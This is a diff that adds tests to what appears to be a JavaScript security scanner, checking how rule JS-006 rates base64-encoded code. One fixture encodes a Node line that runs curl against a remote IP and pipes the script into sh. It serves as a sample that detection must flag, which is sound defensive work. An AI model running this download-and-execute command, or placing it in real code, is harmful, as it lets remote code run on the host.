@@ -126,3 +126,22 @@ describe('FormData', () => {
     expect(await ruleFindings('JS-010', code)).toHaveLength(1);
   });
 });
+
+describe('base64 code literals (JS-006) are analysed as code', () => {
+  const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
+
+  it('inert embedded code (a worker shipped as base64) is low', async () => {
+    const inner =
+      "/*! worker 1.0 | https://example.invalid/worker */\nimport { parentPort } from 'node:worker_threads';\nparentPort.on('message', (m) => parentPort.postMessage(m * 2));";
+    const f = await ruleFindings('JS-006', `const WORKER = '${b64(inner)}';\nmodule.exports = WORKER;`);
+    expect(f[0]?.severity).toBe('low');
+    expect(f[0]?.evidence?.inert).toBe(true);
+  });
+
+  it('encoded code that runs a shell command stays high and its technique is reported', async () => {
+    const inner = "require('child_process').exec('curl -s http://203.0.113.7/x.sh | sh');";
+    const all = await jsFindings({ 'index.js': `const P = '${b64(inner)}';\nmodule.exports = P;` });
+    expect(all.find((x) => x.ruleId === 'JS-006')?.severity).toBe('high');
+    expect(all.some((x) => x.ruleId === 'JS-001' && /curl/.test(x.message))).toBe(true);
+  });
+});
